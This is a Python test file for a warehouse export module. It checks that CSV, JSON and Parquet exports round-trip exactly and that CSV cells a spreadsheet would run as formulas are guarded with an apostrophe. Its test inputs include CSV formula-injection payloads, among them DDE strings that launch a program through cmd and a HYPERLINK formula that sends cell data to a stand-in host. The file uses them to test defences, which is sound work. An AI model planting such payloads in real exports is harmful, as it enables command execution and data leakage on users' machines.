"""Exports: exact, the same every time, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import math
import unicodedata
from datetime import date
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chunk_pipeline.warehouse.export import (
    Condition,
    ExportError,
    Format,
    condition_of,
    exported_schema,
    guarded,
    table_named,
    unguarded,
    write_table,
)
from chunk_pipeline.warehouse.tables import CHUNKS, FILES, RETRIEVAL_METRICS, TABLES, VECTORS

SCHEMA = pa.schema(
    [
        pa.field("text", pa.string()),
        pa.field("long", pa.large_string(), nullable=False),
        pa.field("count", pa.int64()),
        pa.field("share", pa.float64()),
        pa.field("holds", pa.bool_()),
        pa.field("day", pa.date32()),
        pa.field("names", pa.list_(pa.string())),
        pa.field("more", pa.map_(pa.string(), pa.string())),
        pa.field("facts", pa.struct([pa.field("unit", pa.string()), pa.field("on", pa.date32())])),
    ]
)

DANGEROUS = "=+-@\t\r\n＝＋－＠﹦⁼−"
texts = st.text(
    st.one_of(st.characters(exclude_categories=["Cs"]), st.sampled_from(DANGEROUS + "' ,\"\u3000\ufeff\x00"))
)
rows = st.lists(
    st.fixed_dictionaries(
        {
            "text": st.none() | texts,
            "long": texts,
            "count": st.none() | st.integers(-(2**63), 2**63 - 1),
            "share": st.none() | st.floats(allow_nan=False),
            "holds": st.none() | st.booleans(),
            "day": st.none() | st.dates(),
            "names": st.none() | st.lists(st.none() | texts, max_size=3),
            "more": st.none()
            | st.dictionaries(texts, st.none() | texts, max_size=2).map(lambda d: list(d.items())),
            "facts": st.none()
            | st.fixed_dictionaries({"unit": st.none() | texts, "on": st.none() | st.dates()}),
        }
    ),
    max_size=5,
)


def written(form: Format, table: pa.Table, at_once: int = 2) -> bytes:
    file = io.BytesIO()
    parts = (table.slice(start, at_once) for start in range(0, table.num_rows, at_once))
    assert write_table(file, form, table.schema, parts) == table.num_rows
    return file.getvalue()


def read_back(data: bytes) -> list[list[str]]:
    csv.field_size_limit(10**9)
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


def is_formula(cell: str) -> bool:
    """What spreadsheets and importers take for one: an independent and wider reading of the rule."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    for character in cell:
        if character.isspace() or unicodedata.category(character) in ("Cc", "Cf"):
            continue
        return unicodedata.normalize("NFKC", character)[0] in "=+-@−"
    return False


def as_json(value: Any) -> Any:
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, dict):
        return {name: as_json(item) for name, item in value.items()}
    return value


def mapping(pairs: list[tuple[str, Any]] | None) -> dict[str, Any] | None:
    return None if pairs is None else dict(pairs)


def cells_of(row: dict[str, Any]) -> list[str]:
    """What a row must read back as, guards taken off."""
    plain = [row["text"] or "", row["long"]]
    plain += ["" if row[name] is None else repr(row[name]) for name in ("count", "share")]
    plain.append("" if row["holds"] is None else str(row["holds"]).lower())
    plain.append("" if row["day"] is None else row["day"].isoformat())
    return plain


@pytest.mark.bad_input
@settings(deadline=None)
@given(rows)
def test_csv_reads_back_as_the_table_once_the_guards_are_off(given_rows: list[dict[str, Any]]) -> None:
    table = pa.Table.from_pylist(given_rows, schema=SCHEMA)
    header, *read = read_back(written(Format.CSV, table))
    assert header == SCHEMA.names
    expected = table.to_pylist()
    assert len(read) == len(expected)
    for cells, row in zip(read, expected, strict=True):
        texts_off = [unguarded(cells[0]), unguarded(cells[1]), *cells[2:5], unguarded(cells[5])]
        assert texts_off == cells_of(row)
        nested = [json.loads(cell) if cell else None for cell in map(unguarded, cells[6:])]
        assert nested == [as_json(row["names"]), mapping(row["more"]), as_json(row["facts"])]
        assert not any(is_formula(cell) for place, cell in enumerate(cells) if place not in (2, 3))


@settings(deadline=None)
@given(texts)
def test_a_guard_comes_off_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text) in (text, f"'{text}")
    assert not is_formula(guarded(text))


@pytest.mark.bad_input
@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '@SUM(1+9)*cmd|" /C calc"!A0',
        "+1",
        "-2+3",
        "\t=1",
        "\r=1",
        "\ttab",
        "  =1",
        "\u00a0\u3000=1",
        "\ufeff=1",
        "\u200b@x",
        "＝1",
        "＠SUM",
        "－1",
        "'=1",
        "''=1",
        '=HYPERLINK("http://x.example?"&A1)',
        "- a list item",
    ],
)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["", "a=b", "'quoted'", "1-2", "it's", "“=”", " ", "https://x.example/?a=b"])
def test_other_texts_are_left_as_they_are(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.bad_input
def test_no_naughty_string_becomes_a_formula(corpora: Any) -> None:
    path = corpora / "corpora" / "bad_inputs" / "naughty_strings" / "blns.json"
    strings = json.loads(path.read_text(encoding="utf-8"))
    table = pa.table({"text": strings, "names": [[each] for each in strings]})
    _, *read = read_back(written(Format.CSV, table, at_once=100))
    assert [unguarded(cells[0]) for cells in read] == strings
    assert [json.loads(cells[1]) for cells in read] == [[each] for each in strings]
    assert not any(is_formula(cell) for cells in read for cell in cells)
    guards = [cells[0] != each for cells, each in zip(read, strings, strict=True)]
    assert sum(guards) >= 26


def test_numbers_are_left_and_an_empty_text_is_told_from_null() -> None:
    table = pa.table({"count": [-5, None], "share": [-0.25, math.inf], "text": ["", None]})
    assert written(Format.CSV, table) == b'count,share,text\r\n-5,-0.25,""\r\n,inf,\r\n'


@settings(deadline=None)
@given(rows)
def test_json_is_an_array_with_a_row_a_line(given_rows: list[dict[str, Any]]) -> None:
    table = pa.Table.from_pylist(given_rows, schema=SCHEMA)
    data = written(Format.JSON, table).decode()
    expected = [{**as_json(row), "more": mapping(row["more"])} for row in table.to_pylist()]
    for row in expected:
        row["share"] = row["share"] if row["share"] is None or math.isfinite(row["share"]) else None
    assert json.loads(data) == expected
    assert data.count("\n") == (len(expected) + 2 if expected else 1)


@settings(deadline=None)
@given(rows)
def test_parquet_holds_the_same_rows(given_rows: list[dict[str, Any]]) -> None:
    table = pa.Table.from_pylist(given_rows, schema=SCHEMA)
    assert pq.read_table(io.BytesIO(written(Format.PARQUET, table))).to_pylist() == table.to_pylist()


@pytest.mark.parametrize("form", list(Format))
def test_the_same_rows_give_the_same_bytes_however_many_come_at_once(form: Format) -> None:
    row = {"text": "=1", "long": 'x,\n"y"', "count": -1, "names": ["a"], "more": [("k", "v")]}
    table = pa.Table.from_pylist([{**row, "share": n / 7} for n in range(9)], schema=SCHEMA)
    assert written(form, table, 9) == written(form, table, 9)
    if form is not Format.PARQUET:
        assert written(form, table, 2) == written(form, table, 9)


def test_every_declared_table_can_be_exported_with_no_rows() -> None:
    for table in TABLES:
        header, *rest = read_back(written(Format.CSV, exported_schema(table).empty_table()))
        assert (header, rest) == (table.schema.names, [])
    assert pa.types.is_list(exported_schema(VECTORS).field("vector").type)


def test_conditions_are_read_as_the_column_s_type() -> None:
    assert condition_of(FILES, "path=a=b") == Condition("path", "a=b")
    assert condition_of(FILES, "size=12") == Condition("size", 12)
    assert condition_of(CHUNKS, "parses=true") == Condition("parses", True)
    assert condition_of(RETRIEVAL_METRICS, "value=0.5") == Condition("value", 0.5)
    assert condition_of(FILES, "reason=") == Condition("reason", None)


@pytest.mark.parametrize(
    ("table", "text", "told"),
    [
        (FILES, "nothing", "column=value"),
        (FILES, "colour=red", "content_sha256"),
        (FILES, "size=large", "'large'"),
        (CHUNKS, "n_chars=99999999999999", "int32"),
        (CHUNKS, "parses=yes", "bool"),
        (CHUNKS, "spans=1", "another column"),
    ],
)
def test_a_condition_that_cannot_hold_says_why(table: Any, text: str, told: str) -> None:
    with pytest.raises(ExportError, match=told):
        condition_of(table, text)


def test_an_unknown_table_is_told_those_there_are() -> None:
    with pytest.raises(ExportError, match=r"no table 'chunk'; there are: .*chunks.*gold_queries"):
        table_named("chunk")
